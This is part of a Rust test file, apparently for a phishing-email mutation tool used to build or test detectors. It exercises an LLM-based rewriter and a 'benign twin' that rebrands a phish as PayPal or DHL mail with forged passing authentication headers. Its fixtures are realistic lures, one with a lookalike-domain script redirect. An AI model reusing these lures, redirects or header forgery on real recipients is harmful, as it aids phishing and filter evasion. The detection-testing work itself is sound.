            let mut reader = BufReader::new(stream.try_clone().unwrap());
            let mut head = String::new();
            let mut len = 0;
            loop {
                let mut line = String::new();
                if reader.read_line(&mut line).unwrap() == 0 || line == "\r\n" {
                    break;
                }
                if let Some(v) = line.to_ascii_lowercase().strip_prefix("content-length:") {
                    len = v.trim().parse().unwrap();
                }
                head.push_str(&line);
            }
            let mut body_in = vec![0u8; len];
            reader.read_exact(&mut body_in).unwrap();
            let mut stream = stream;
            write!(
                stream,
                "HTTP/1.1 {status} X\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                body.len()
            )
            .unwrap();
            stream.flush().unwrap();
            tx.send(format!("{head}\r\n{}", String::from_utf8_lossy(&body_in)))
                .unwrap();
        });
        (format!("http://{addr}"), rx)
    }

    #[test]
    fn chat_rewriter_speaks_openai() {
        let (endpoint, rx) = serve_once(
            200,
            r#"{"id":"x","choices":[{"index":0,"message":{"role":"assistant","content":"Hello there, see [[LINK1]]."}}]}"#,
        );
        let mut rw = ChatRewriter::new(format!("{endpoint}/v1/"), "tiny-model");
        rw.api_key = Some("sk-test".into());
        rw.timeout = Duration::from_secs(10);
        assert_eq!(
            rw.rewrite("Dear customer, see [[LINK1]]").unwrap(),
            "Hello there, see [[LINK1]]."
        );
        let req = rx.recv_timeout(Duration::from_secs(5)).unwrap();
        assert!(
            req.starts_with("POST /v1/chat/completions HTTP/1.1"),
            "{req}"
        );
        assert!(
            req.to_ascii_lowercase()
                .contains("authorization: bearer sk-test"),
            "{req}"
        );
        let body: serde_json::Value =
            serde_json::from_str(req.split("\r\n\r\n").nth(1).unwrap()).unwrap();
        assert_eq!(body["model"], "tiny-model");
        assert_eq!(body["messages"][0]["role"], "system");
        assert_eq!(body["messages"][0]["content"], ChatRewriter::DEFAULT_PROMPT);
        assert_eq!(
            body["messages"][1]["content"],
            "Dear customer, see [[LINK1]]"
        );
        assert_eq!(body["temperature"], 0.7);
        assert_eq!(rw.name(), "chat:tiny-model");
        assert_eq!(
            ChatRewriter::new("http://h:1", "m").url(),
            "http://h:1/v1/chat/completions"
        );
        assert_eq!(
            ChatRewriter::new("http://h:1/v1/chat/completions", "m").url(),
            "http://h:1/v1/chat/completions"
        );
    }

    #[test]
    fn chat_rewriter_reports_errors() {
        let (endpoint, _rx) = serve_once(500, r#"{"error":"model not loaded"}"#);
        let mut rw = ChatRewriter::new(endpoint, "m");
        rw.timeout = Duration::from_secs(10);
        let e = rw.rewrite("x").unwrap_err();
        assert!(
            e.contains("HTTP 500") && e.contains("model not loaded"),
            "{e}"
        );

        let (endpoint, _rx) = serve_once(200, r#"{"choices":[]}"#);
        let mut rw = ChatRewriter::new(endpoint, "m");
        rw.timeout = Duration::from_secs(10);
        assert!(rw.rewrite("x").unwrap_err().contains("choices[0]"));

        // Nothing listening.
        let port = TcpListener::bind("127.0.0.1:0")
            .unwrap()
            .local_addr()
            .unwrap()
            .port();
        let mut rw = ChatRewriter::new(format!("http://127.0.0.1:{port}"), "m");
        rw.timeout = Duration::from_secs(5);
        assert!(rw.rewrite("x").is_err());

        let (endpoint, _rx) = serve_once(200, r#"{"choices":[{"message":{"content":"ok"}}]}"#);
        let rw = ChatRewriter::new(endpoint, "m");
        let ctx = MutateCtx::new(&rw, 1);
        let out = mutate(MULTI.as_bytes(), &[Op::Rewrite], &ctx).unwrap();
        assert!(
            out.notes
                .iter()
                .any(|n| n.contains("dropped 2 link placeholder"))
        );
    }

    // ---- benign twin ----

    const PAYPAL_PHISH: &str = "Received: from smtp.kx-mailer.example (smtp.kx-mailer.example [198.51.100.23])\r\n\tby mx.victim.example with ESMTP id 9QZ; Mon, 3 Mar 2025 08:12:44 +0000\r\n\
Authentication-Results: mx.victim.example; spf=fail smtp.mailfrom=kx-mailer.example;\r\n dkim=none; dmarc=fail header.from=kx-mailer.example\r\n\
ARC-Seal: i=1; a=rsa-sha256; d=relay.example; s=arc; t=1740989564; cv=none; b=AAAA\r\n\
DKIM-Signature: v=1; a=rsa-sha256; d=kx-mailer.example; s=k1; h=from:subject; bh=xyz=; b=abc=\r\n\
Received-SPF: fail (mx.victim.example: domain of kx-mailer.example does not designate 198.51.100.23)\r\n\
Return-Path: <bounce-7731@kx-mailer.example>\r\n\
From: \"PayPal\" <service.notice@kx-mailer.example>\r\n\
Reply-To: \"PayPal Support\" <resolve@kx-mailer.example>\r\n\
To: alice@victim.example\r\n\
Subject: Action required: your account access is limited\r\n\
Date: Mon, 3 Mar 2025 08:12:40 +0000\r\n\
Message-ID: <20250303081240.77A1@kx-mailer.example>\r\n\
MIME-Version: 1.0\r\n\
Content-Type: multipart/mixed; boundary=\"outer\"\r\n\
\r\n\
--outer\r\n\
Content-Type: multipart/alternative; boundary=\"alt\"\r\n\
\r\n\
--alt\r\n\
Content-Type: text/plain; charset=utf-8\r\n\
\r\n\
Hello,\r\n\
\r\n\
We noticed an unusual sign-in to your PayPal account and have limited access until you confirm your details.\r\n\
\r\n\
Confirm your details: https://paypa1-secure.example/account/verify?id=88213\r\n\
Privacy: http://www.paypa1-secure.example:8080/privacy\r\n\
\r\n\
Sincerely,\r\n\
PayPal\r\n\
--alt\r\n\
Content-Type: text/html; charset=utf-8\r\n\
\r\n\
<html><body><p>Hello,</p><p>We noticed an unusual sign-in to your PayPal account and have limited access until you confirm your details.</p>\
<p><a href=\"https://paypa1-secure.example/account/verify?id=88213\">Confirm your details</a></p>\
<p><a href=\"http://www.paypa1-secure.example:8080/privacy\">Privacy</a> | <a href=\"https://www.paypal.com/us/webapps/mpp/ua/legalhub-full\">Legal</a></p>\
<script>document.location='https://paypa1-secure.example/x'</script>\
<p>Sincerely,<br>PayPal</p></body></html>\r\n\
--alt--\r\n\
--outer\r\n\
Content-Type: application/pdf; name=\"Account_Review.pdf\"\r\n\
Content-Disposition: attachment; filename=\"Account_Review.pdf\"\r\n\
Content-Transfer-Encoding: base64\r\n\
\r\n\
JVBERi0xLjQKJcOkw7zDtsOfCjEgMCBvYmoKPDwvVHlwZS9DYXRhbG9nPj4KZW5kb2JqCg==\r\n\
--outer--\r\n";

    const NO_BRAND: &str = "From: \"Jenny\" <jenny.h1982@mailbox-x.example>\r\n\
To: bob@victim.example\r\n\
Subject: hi dear\r\n\
Date: Tue, 4 Mar 2025 10:00:00 +0000\r\n\
Message-ID: <q1@mailbox-x.example>\r\n\
Content-Type: text/plain; charset=utf-8\r\n\
\r\n\
Hi dear, I saw your profile and I want to know you better. Write to me here: https://date-me-now.example/p/4412\r\n";

    fn header_names(raw: &[u8]) -> Vec<String> {
        let msg = parse(raw);
        msg.parts[0]
            .headers
            .iter()
            .map(|h| h.name.as_str().to_ascii_lowercase())
            .collect()
    }

    #[test]
    fn benign_twin_of_a_paypal_phish_is_paypal_mail() {
        let twin = benign_twin(PAYPAL_PHISH.as_bytes()).expect("a twin");
        let msg = parse(&twin);
        let from = msg.from().and_then(|a| a.first()).unwrap();
        assert_eq!(from.address.as_deref(), Some("service.notice@paypal.com"));
        assert_eq!(from.name.as_deref(), Some("PayPal"));
        let reply = msg.reply_to().and_then(|a| a.first()).unwrap();
        assert_eq!(reply.address.as_deref(), Some("resolve@paypal.com"));
        assert_eq!(
            msg.return_address(),
            Some("bounce@paypal.com"),
            "Return-Path on the brand"
        );
        // One Authentication-Results, topmost, passing for paypal.com; no
        // other authentication header of the original.
        let names = header_names(&twin);
        assert_eq!(
            names.first().map(String::as_str),
            Some("authentication-results")
        );
        assert_eq!(
            names
                .iter()
                .filter(|n| n.contains("authentication-results"))
                .count(),
            1
        );
        for gone in ["arc-seal", "dkim-signature", "received-spf"] {
            assert!(!names.iter().any(|n| n == gone), "{gone} left: {names:?}");
        }
        let text = String::from_utf8_lossy(&twin);
        assert!(text.contains(
            "Authentication-Results: mx.twin.example; spf=pass smtp.mailfrom=paypal.com;"
        ));
        assert!(text.contains("dkim=pass header.d=paypal.com; dmarc=pass header.from=paypal.com"));
        // Links: same paths on paypal.com; the real PayPal link unchanged.
        let html = html_of(&msg);
        assert!(
            html.contains("href=\"https://paypal.com/account/verify?id=88213\""),
            "{html}"
        );
        assert!(
            html.contains("href=\"https://paypal.com/privacy\""),
            "{html}"
        );
        assert!(html.contains("https://www.paypal.com/us/webapps/mpp/ua/legalhub-full"));
        assert!(!text.contains("paypa1"), "{text}");
        assert!(!html.contains("<script"), "{html}");
        let plain = msg.body_text(0).unwrap();
        assert!(plain.contains("Confirm your details: https://paypal.com/account/verify?id=88213"));
        // No attachment.
        assert_eq!(msg.attachment_count(), 0);
        assert!(!text.contains("Account_Review.pdf"));
        // The same visible text (the HTML's anchors show no URL).
        let before = Model::parse(PAYPAL_PHISH.as_bytes()).unwrap();
        let after = Model::parse(&twin).unwrap();
        assert_eq!(before.subject, after.subject);
        let strip = |m: &Model| {
            let mut m = m.clone();
            m.text = None;
            collapse_ws(&visible_text(&m))
        };
        assert_eq!(strip(&before), strip(&after));
        assert!(!strip(&after).is_empty());
        // Deterministic.
        assert_eq!(benign_twin(PAYPAL_PHISH.as_bytes()), Some(twin));
    }

    #[test]
    fn benign_twin_does_not_apply_without_a_brand() {
        assert_eq!(benign_twin(NO_BRAND.as_bytes()), None);
        assert_eq!(benign_twin(b"not a message at all"), None);
        let rw = BuiltinRewriter { seed: 1 };
        let ctx = MutateCtx::new(&rw, 1);
        assert!(matches!(
            mutate(NO_BRAND.as_bytes(), &[Op::BenignTwin], &ctx),
            Err(MutateError::NotApplicable(_))
        ));
    }

    #[test]
    fn benign_twin_is_parseable_but_not_an_attack() {
        assert_eq!(Op::parse("benign-twin"), Some(Op::BenignTwin));
        assert_eq!(Op::parse("BENIGN_TWIN"), Some(Op::BenignTwin));
        assert!(!Op::ALL.contains(&Op::BenignTwin));
        assert!(Op::BENIGN.contains(&Op::BenignTwin));
        assert!(Op::BenignTwin.describe().contains("brand"));
    }

    #[test]
    fn benign_twin_makes_up_no_brand_from_a_person_name() {
        let raw = "From: \"Philip Fredrick\" <pf@mail-x.example>\r\n\
To: bob@victim.example\r\n\
Subject: Philip Fredrick needs your help\r\n\
Content-Type: text/plain; charset=utf-8\r\n\
\r\n\
I am Barrister Philip Fredrick. Reply to Philip with your details.\r\n";
        assert_eq!(benign_twin(raw.as_bytes()), None);
        assert!(person_like("Mr.Wood Forest"));
        assert!(!person_like("Breville Smart Waffle Pro Department"));
        assert!(!person_like("Lido DAO"));
    }

    #[test]
    fn benign_twin_brand_named_in_the_text() {
        // No brand in the display name; the text names DHL twice.
        let raw = "From: \"Parcel Desk\" <desk@q7-track.example>\r\n\
To: bob@victim.example\r\n\
Subject: Delivery attempt failed\r\n\
Content-Type: text/html; charset=utf-8\r\n\
\r\n\
<p>DHL could not deliver your parcel. Pay the fee to DHL Express: <a href=\"http://198.51.100.7/pay\">pay now</a></p>\r\n";
        let twin = benign_twin(raw.as_bytes()).expect("a twin");
        let msg = parse(&twin);
        let from = msg.from().and_then(|a| a.first()).unwrap();
        assert_eq!(from.address.as_deref(), Some("desk@dhl.com"));
        assert!(html_of(&msg).contains("href=\"https://dhl.com/pay\""));
    }
}
